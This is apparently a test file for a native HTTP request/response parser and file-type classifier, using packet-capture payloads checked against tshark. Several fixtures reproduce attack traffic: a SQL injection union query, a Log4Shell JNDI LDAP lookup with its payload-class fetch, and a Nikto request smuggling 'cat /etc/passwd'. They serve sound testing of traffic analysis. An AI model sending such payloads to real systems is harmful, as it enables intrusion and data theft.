/**
 * HTTP/1.x request and response heads (native/app/http.cpp) through the test-only `_parseHttpRequest` and
 * `_parseHttpResponse` exports. Real payloads from the fixture captures (test/fixtures/pcaps/, one TCP segment each,
 * written as latin1 text) with the values tshark 4.0 gives for them (`tshark -r FILE -Y frame.number==N -T fields
 * -e http.request.method -e http.host -e http.request.uri -e http.user_agent`), hand-built edge cases, and every
 * prefix of every payload.
 */
import { expect } from 'chai';

import type { Binding } from '../../../binding.js';
import { loadBinding } from '../../../src/native/load.js';

const addon = loadBinding();
const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');
const request = (s: string | Buffer): Binding.ParsedHttpRequest => addon._parseHttpRequest(typeof s === 'string' ? latin1(s) : s);
const response = (s: string | Buffer): Binding.ParsedHttpResponse => addon._parseHttpResponse(typeof s === 'string' ? latin1(s) : s);

interface RequestCase {
  source: string;
  payload: string;
  /** tshark's http.request.method, http.host, http.request.uri, http.user_agent for the frame. */
  method: string;
  host: string;
  uri: string;
  userAgent: string;
}

const REQUESTS: RequestCase[] = [
  {
    source: 'zeek_qinq_8021ad_http.pcap frame 4 (802.1ad QinQ)',
    payload:
      'GET /download/CHANGES.bro-aux.txt HTTP/1.1\r\n' +
      'User-Agent: Wget/1.14 (darwin12.2.0)\r\n' +
      'Accept: */*\r\n' +
      'Host: bro.org\r\n' +
      'Connection: Keep-Alive\r\n' +
      '\r\n',
    method: 'GET',
    host: 'bro.org',
    uri: '/download/CHANGES.bro-aux.txt',
    userAgent: 'Wget/1.14 (darwin12.2.0)',
  },
  {
    source: 'ndpi_cicids2017_webattack_sqli.pcap frame 25 (SQL injection: percent-encoding kept as sent)',
    payload:
      'GET /dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit HTTP/1.1\r\n' +
      'Host: 205.174.165.68\r\n' +
      'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0\r\n' +
      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n' +
      'Accept-Language: en-US,en;q=0.5\r\n' +
      'Accept-Encoding: gzip, deflate\r\n' +
      'Referer: http://205.174.165.68/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1%23&Submit=Submit\r\n' +
      'Cookie: security=low; PHPSESSID=5dfcuh85kg0vvidf8nrsjtbob5\r\n' +
      'Connection: keep-alive\r\n' +
      '\r\n',
    method: 'GET',
    host: '205.174.165.68',
    uri: '/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit',
    userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0',
  },
  {
    source: 'sv_linux_sll_log4shell_exploit.pcap frame 4 (Linux SLL; POST with its body in the segment)',
    payload:
      'POST /log4shell/login HTTP/1.1\r\n' +
      'Host: 192.168.13.31:8080\r\n' +
      'User-Agent: jndi:ldap://172.16.238.11:1389/a\r\n' +
      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n' +
      'Accept-Language: en-US,en;q=0.5\r\n' +
      'Accept-Encoding: gzip, deflate\r\n' +
      'Content-Type: application/x-www-form-urlencoded\r\n' +
      'Content-Length: 69\r\n' +
      'Origin: http://192.168.13.31:8080\r\n' +
      'DNT: 1\r\n' +
      'Connection: keep-alive\r\n' +
      'Referer: http://192.168.13.31:8080/log4shell/\r\n' +
      'Cookie: JSESSIONID=40DD3D96289A74994F8D9A97D2CF67C2; JSESSIONID=59382ECCD02AE680818F8B5EE3653726\r\n' +
      'Upgrade-Insecure-Requests: 1\r\n' +
      '\r\n' +
      'uname=%24%7Bjndi%3Aldap%3A%2F%2F172.16.238.11%3A1389%2Fa%7D&password=',
    method: 'POST',
    host: '192.168.13.31:8080', // the port stays, as in tshark's http.host
    uri: '/log4shell/login',
    userAgent: 'jndi:ldap://172.16.238.11:1389/a',
  },
  {
    source: 'sv_linux_sll_log4shell_exploit.pcap frame 23 (the exploited JVM fetching the payload class)',
    payload:
      'GET /Exploit.class HTTP/1.1\r\n' +
      'Cache-Control: no-cache\r\n' +
      'Pragma: no-cache\r\n' +
      'User-Agent: Java/1.8.0_51\r\n' +
      'Host: 172.16.238.11\r\n' +
      'Accept: text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2\r\n' +
      'Connection: keep-alive\r\n' +
      '\r\n',
    method: 'GET',
    host: '172.16.238.11',
    uri: '/Exploit.class',
    userAgent: 'Java/1.8.0_51',
  },
  {
    source: 'sv_eth_ipv4_ipv6_dns_tls_http_mixed.pcap frame 84 (OCSP GET)',
    payload:
      'GET /MFEwTzBNMEswSTAJBgUrDgMCGgUABBTBL0V27RVZ7LBduom%2FnYB45SPUEwQU5Z1ZMIJHWMys%2BghUNoZ7OrUETfACEA8Ull8gIGmZT9XHrHiJQeI%3D HTTP/1.1\r\n' +
      'Cache-Control: max-age = 140951\r\n' +
      'Connection: Keep-Alive\r\n' +
      'Accept: */*\r\n' +
      'If-Modified-Since: Tue, 17 Nov 2020 05:14:48 GMT\r\n' +
      'If-None-Match: "5fb35c48-1d7"\r\n' +
      'User-Agent: Microsoft-CryptoAPI/6.1\r\n' +
      'Host: ocsp.digicert.com\r\n' +
      '\r\n',
    method: 'GET',
    host: 'ocsp.digicert.com',
    uri: '/MFEwTzBNMEswSTAJBgUrDgMCGgUABBTBL0V27RVZ7LBduom%2FnYB45SPUEwQU5Z1ZMIJHWMys%2BghUNoZ7OrUETfACEA8Ull8gIGmZT9XHrHiJQeI%3D',
    userAgent: 'Microsoft-CryptoAPI/6.1',
  },
  {
    source: 'sv_eth_ipv4_ipv6_dns_tls_http_mixed.pcap frame 520',
    payload:
      'GET /Files/Images/Svane/Markedsplads/Naestved/naestved-y20-k%20CB8kken.jpg HTTP/1.1\r\n' +
      'Accept: image/png, image/svg+xml, image/*;q=0.8, */*;q=0.5\r\n' +
      'Accept-Language: en-US\r\n' +
      'User-Agent: Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko\r\n' +
      'Accept-Encoding: gzip, deflate\r\n' +
      'Host: www.svane.com\r\n' +
      'DNT: 1\r\n' +
      'Connection: Keep-Alive\r\n' +
      '\r\n',
    method: 'GET',
    host: 'www.svane.com',
    uri: '/Files/Images/Svane/Markedsplads/Naestved/naestved-y20-k%20CB8kken.jpg',
    userAgent: 'Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko',
  },
];

interface ResponseCase {
  source: string;
  payload: string;
  /** tshark's http.response.code. */
  code: number;
}

const RESPONSES: ResponseCase[] = [
  {
    source: 'zeek_qinq_8021ad_http.pcap frame 6 (head of the 1448-byte segment)',
    payload:
      'HTTP/1.1 200 OK\r\n' +
      'Date: Thu, 07 Mar 2013 21:43:07 GMT\r\n' +
      'Server: Apache/2.4.3 (Fedora)\r\n' +
      'Last-Modified: Wed, 29 Aug 2012 23:49:27 GMT\r\n' +
      'ETag: "1261-4c870358a6fc0"\r\n' +
      'Accept-Ranges: bytes\r\n' +
      'Content-Length: 4705\r\n' +
      'Keep-Alive: timeout=5, max=100\r\n' +
      'Connection: Keep-Alive\r\n' +
      'Content-Type: text/plain; charset=UTF-8\r\n' +
      '\r\n',
    code: 200,
  },
  {
    source: 'sv_linux_sll_log4shell_exploit.pcap frame 25 (HTTP/1.0; tshark reports the code at frame 27)',
    payload:
      'HTTP/1.0 200 OK\r\n' +
      'Server: SimpleHTTP/0.6 Python/3.4.2\r\n' +
      'Date: Mon, 13 Dec 2021 20:03:35 GMT\r\n' +
      'Content-type: application/java-vm\r\n' +
      'Content-Length: 1352\r\n' +
      'Last-Modified: Mon, 13 Dec 2021 19:59:10 GMT\r\n' +
      '\r\n',
    code: 200,
  },
  {
    source: 'sv_eth_ipv4_ipv6_dns_tls_http_mixed.pcap frame 537 (head of the segment)',
    payload:
      'HTTP/1.1 301 Moved Permanently\r\n' +
      'Date: Thu, 17 Mar 2022 08:39:17 GMT\r\n' +
      'Server: Apache\r\n' +
      'Location: https://www.havenyt.dk/images/upload/gasbraender.jpg\r\n' +
      'Content-Length: 260\r\n' +
      'Keep-Alive: timeout=3, max=100\r\n' +
      'Connection: Keep-Alive\r\n' +
      'Content-Type: text/html; charset=iso-8859-1\r\n' +
      '\r\n',
    code: 301,
  },
];

const HTTP_STATUSES = ['http_ok', 'http_need_more', 'http_not_http', 'http_bad_request_line', 'http_bad_header'];

describe('ParseHttpRequest (native/app/http.cpp)', () => {
  for (const c of REQUESTS) {
    it(`matches tshark on ${c.source}`, () => {
      const r = request(c.payload);
      expect(r).to.include({ status: 'http_ok', looksLikeRequest: true, method: c.method, host: c.host, uri: c.uri, userAgent: c.userAgent, versionMinor: 1 });
      expect(r).to.include({ hostTruncated: false, uriTruncated: false, userAgentTruncated: false });
    });
  }

  it('parses every prefix of every payload: need_more before the blank line, and fields only once complete', () => {
    for (const c of REQUESTS) {
      const bytes = latin1(c.payload);
      const headEnd = c.payload.indexOf('\r\n\r\n') + 4;
      const firstLineEnd = c.payload.indexOf('\r\n');
      for (let n = 0; n <= bytes.length; n++) {
        const r = request(bytes.subarray(0, n));
        const where = `${c.source}, first ${n} bytes`;
        expect(HTTP_STATUSES, where).to.include(r.status);
        expect(r.status, where).to.equal(n >= headEnd ? 'http_ok' : 'http_need_more');
        // A value is either absent or complete: a cut field line is not taken.
        for (const key of ['host', 'userAgent'] as const) expect(['', c[key]], `${where}: ${key}`).to.include(r[key]);
        if (n > firstLineEnd) expect(r.uri, where).to.equal(c.uri);
        if (n >= headEnd) expect(r).to.include({ host: c.host, userAgent: c.userAgent });
      }
    }
  });

  it('reads header names case-insensitively, trims whitespace and takes the first Host', () => {
    const r = request('PUT /a HTTP/1.0\nhOsT:\t example.org:81 \t\nUSER-AGENT:x\nHost: second\n\n');
    expect(r).to.include({ status: 'http_ok', method: 'PUT', host: 'example.org:81', userAgent: 'x', uri: '/a', versionMinor: 0 });
  });

  it('accepts bare LF line ends, WebDAV methods and a target with unencoded spaces (first word, as tshark)', () => {
    expect(request('PROPFIND /dav/ HTTP/1.1\nHost: h\n\n')).to.include({ status: 'http_ok', method: 'PROPFIND', uri: '/dav/' });
    expect(request('M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n\r\n')).to.include({ status: 'http_ok', uri: '*', host: '239.255.255.250:1900' });
    // Nikto's request in bench_ndpi_merged_ethernet_mixed.pcap frame 48470; tshark: http.request.uri "/cgi-bin/handler/netsonar;cat".
    const nikto = request('GET /cgi-bin/handler/netsonar;cat /etc/passwd|?data=Download HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n');
    expect(nikto).to.include({ status: 'http_ok', uri: '/cgi-bin/handler/netsonar;cat', host: '127.0.0.1' });
  });

  it('caps the URI at 512 bytes and the Host at 255, and flags the cut', () => {
    const uri = `/${'a'.repeat(600)}`;
    const host = 'h'.repeat(300);
    const r = request(`GET ${uri} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${'u'.repeat(512)}\r\n\r\n`);
    expect(r).to.include({ status: 'http_ok', uri: uri.slice(0, 512), uriTruncated: true, host: host.slice(0, 255), hostTruncated: true });
    expect(r).to.include({ userAgent: 'u'.repeat(512), userAgentTruncated: false });
  });

  it('tells non-HTTP and malformed heads apart', () => {
    expect(request('SSH-2.0-OpenSSH_6.2\r\n').status).to.equal('http_not_http');
    expect(request('get / HTTP/1.1\r\n\r\n').status).to.equal('http_not_http'); // methods are case-sensitive
    expect(request('GETX / HTTP/1.1\r\n\r\n').status).to.equal('http_not_http');
    expect(request('GE').status).to.equal('http_need_more');
    expect(request('GET / HTTP/2.0\r\n\r\n').status).to.equal('http_bad_request_line');
    expect(request('GET /\r\n').status).to.equal('http_bad_request_line'); // HTTP/0.9 is not parsed
    expect(request('GET  HTTP/1.1\r\n\r\n').status).to.equal('http_bad_request_line');
    expect(request('GET /a\x00b HTTP/1.1\r\n\r\n').status).to.equal('http_bad_request_line');
    expect(request('GET / HTTP/1.1\r\nno colon here\r\n\r\n').status).to.equal('http_bad_header');
    expect(request('GET / HTTP/1.1\r\n: empty name\r\n\r\n').status).to.equal('http_bad_header');
    expect(request('GET / HTTP/1.1\r\nHost: a\r\n folded\r\n\r\n')).to.include({ status: 'http_ok', host: 'a' });
  });
});

describe('ParseHttpResponseStatus (native/app/http.cpp)', () => {
  for (const c of RESPONSES) {
    it(`reads ${c.code} from ${c.source}`, () => {
      expect(response(c.payload)).to.deep.equal({ status: 'http_ok', looksLikeResponse: true, code: c.code });
    });
  }

  it('parses every prefix: need_more until the three digits are in', () => {
    for (const c of RESPONSES) {
      const bytes = latin1(c.payload);
      for (let n = 0; n <= bytes.length; n++) {
        const r = response(bytes.subarray(0, n));
        expect(r.status, `${c.source}, first ${n} bytes`).to.equal(n >= 12 ? 'http_ok' : 'http_need_more');
        expect(r.code).to.equal(n >= 12 ? c.code : 0);
        expect(r.looksLikeResponse).to.equal(n >= 7);
      }
    }
  });

  it('rejects other protocols and malformed status lines', () => {
    expect(response('RTSP/1.0 200 OK\r\n').status).to.equal('http_not_http');
    expect(response('HTTP/2 200\r\n').status).to.equal('http_not_http');
    expect(response('HTTP/1.1 20x OK\r\n').status).to.equal('http_bad_request_line');
    expect(response('HTTP/1.1 2000 OK\r\n').status).to.equal('http_bad_request_line');
    expect(response('HTTP/1.1  200 OK\r\n').status).to.equal('http_bad_request_line');
    expect(response('HTTP/1.1 404\r\n')).to.deep.equal({ status: 'http_ok', looksLikeResponse: true, code: 404 });
  });
});

const head = (s: string | Buffer): Binding.ParsedHttpResponseHead => addon._parseHttpResponseHead(typeof s === 'string' ? latin1(s) : s);
const magic = (b: Buffer, complete = false, chunked = false): Binding.HttpBodyMagicResult => addon._httpBodyMagic(b, complete, chunked);

/**
 * The response head of nDPI's tests/cfgs/default/pcap/exe_download_as_png.pcap frame 6 (185.98.87.185:80, a Windows
 * executable served as image/png), as tshark 4.0 shows it: http.response.code 200, http.content_type "image/png",
 * http.content_length 249906; the body starts with "MZ" and its e_lfanew (0xc0) points at "PE\0\0". The head is
 * reproduced as text; the body is a hand-built PE stub with the same e_lfanew (no bytes of the file).
 */
const PNG_HEAD =
  'HTTP/1.1 200 OK\r\n' +
  'Server: nginx/1.10.3\r\n' +
  'Date: Wed, 25 Sep 2019 18:08:24 GMT\r\n' +
  'Content-Type: image/png\r\n' +
  'Content-Length: 249906\r\n' +
  'Last-Modified: Wed, 25 Sep 2019 12:26:25 GMT\r\n' +
  'Connection: keep-alive\r\n' +
  'ETag: "5d8b5cf1-3d032"\r\n' +
  'Accept-Ranges: bytes\r\n' +
  '\r\n';

/** A minimal PE image start: "MZ", e_lfanew (little-endian at 60) = `peAt`, "PE\0\0" there (when `withSignature`). */
function peStub(peAt = 0xc0, length = 0x200, withSignature = true): Buffer {
  const b = Buffer.alloc(length);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(peAt, 60);
  if (withSignature && peAt + 4 <= length) b.write('PE\0\0', peAt, 'latin1');
  return b;
}

describe('ParseHttpResponseHead (native/app/http.cpp)', () => {
  it('reads the status, Content-Type and where the body starts', () => {
    expect(head(PNG_HEAD)).to.deep.equal({
      status: 'http_ok',
      code: 200,
      contentType: 'image/png',
      contentTypeTruncated: false,
      chunked: false,
      headLen: PNG_HEAD.length,
    });
    const chunked = 'HTTP/1.1 200 OK\nCONTENT-TYPE:  text/html; charset=utf-8 \nTransfer-Encoding: gzip, Chunked\n\n';
    expect(head(chunked)).to.include({ status: 'http_ok', contentType: 'text/html; charset=utf-8', chunked: true, headLen: chunked.length });
  });

  it('parses every prefix: need_more before the blank line, the type once its line is whole', () => {
    const bytes = latin1(PNG_HEAD);
    const typeLineEnd = PNG_HEAD.indexOf('image/png\r\n') + 'image/png\r\n'.length;
    for (let n = 0; n <= bytes.length; n++) {
      const r = head(bytes.subarray(0, n));
      expect(r.status, `${n}`).to.equal(n === bytes.length ? 'http_ok' : 'http_need_more');
      expect(r.code, `${n}`).to.equal(n >= 12 ? 200 : 0);
      expect(r.contentType, `${n}`).to.equal(n >= typeLineEnd ? 'image/png' : '');
    }
  });

  it('caps Content-Type at 128 bytes, takes the first, and rejects bad lines', () => {
    const long = `HTTP/1.0 200 OK\r\nContent-Type: ${'x'.repeat(200)}\r\nContent-Type: second\r\n\r\n`;
    expect(head(long)).to.include({ status: 'http_ok', contentType: 'x'.repeat(128), contentTypeTruncated: true });
    expect(head('HTTP/1.1 200 OK\r\ncontent type\r\n\r\n')).to.include({ status: 'http_bad_header', code: 200 });
    expect(head('HTTP/1.1 200 OK\r\nTe st\r\n\r\n')).to.include({ status: 'http_bad_header', code: 200 });
    expect(head('HTTP/1.1 200 OK\r\nno colon\r\n\r\n')).to.include({ status: 'http_ok' }); // only the lines read are checked
    expect(head('HTTP/1.1 2x0 OK\r\n\r\n').status).to.equal('http_bad_request_line');
    expect(head('RTSP/1.0 200 OK\r\n\r\n').status).to.equal('http_not_http');
    expect(head('HTTP/1.1 200 OK\r\nX: a\r\n folded\r\n\r\n')).to.include({ status: 'http_ok' });
  });
});

describe('ClassifyBodyMagic (native/app/http.cpp)', () => {
  it('labels a PE by "MZ" and the "PE\\0\\0" its e_lfanew points at (ET POLICY PE EXE or DLL)', () => {
    expect(magic(peStub()).magic).to.equal('pe');
    expect(magic(peStub(0xc0, 0x200, false)).magic).to.equal('other'); // MZ, but no PE header where it points
    expect(magic(peStub(0x20)).magic).to.equal('other'); // e_lfanew inside the DOS header
    // The PE header beyond the bytes at hand: believed within 1024 bytes, not beyond.
    expect(magic(peStub(0x300, 64)).magic).to.equal('pe');
    expect(magic(peStub(0x5000, 64)).magic).to.equal('other');
    // Fewer than 64 bytes: wait, unless the body is complete.
    expect(magic(peStub().subarray(0, 63)).magic).to.equal('');
    expect(magic(peStub().subarray(0, 63), true).magic).to.equal('other');
  });

  it('labels the other types by their signatures', () => {
    const cases: Array<[string, string]> = [
      ['7f454c4602010100', 'elf'],
      ['cffaedfe07000001', 'macho'],
      ['feedface00000000', 'macho'],
      ['504b030414000600', 'zip'],
      ['1f8b080000000000', 'gzip'],
      ['526172211a070100', 'rar'],
      ['377abcaf271c0004', '7z'],
      ['4d53434600000000', 'cab'],
      ['d0cf11e0a1b11ae1', 'ole'],
      ['255044462d312e37', 'pdf'],
      ['89504e470d0a1a0a', 'png'],
      ['ffd8ffe000104a46', 'jpeg'],
      ['4749463839610100', 'gif'],
      ['23212f62696e2f73', 'script'],
      ['3c21444f43545950', 'other'],
    ];
    for (const [hex, label] of cases) {
      const b = Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(64)]);
      expect(magic(b).magic, hex).to.equal(label);
      // A prefix of a signature waits for more bytes, and is "other" when nothing more comes.
      const two = b.subarray(0, 2);
      expect(magic(two, true).magic, `${hex} cut`).to.equal(label === 'script' ? 'script' : 'other');
    }
    expect(magic(Buffer.alloc(0)).magic).to.equal('');
    expect(magic(Buffer.from('504b', 'hex')).magic).to.equal('');
  });

  it('skips a chunk-size line first in a chunked body', () => {
    const body = Buffer.concat([latin1('3d032;name=x\r\n'), peStub()]);
    expect(magic(body, false, true)).to.deep.equal({ chunk: 'http_ok', magic: 'pe' });
    expect(magic(latin1('3d0'), false, true).chunk).to.equal('http_need_more');
    expect(magic(latin1('zz\r\nMZ'), false, true).chunk).to.equal('http_bad_header');
  });
});
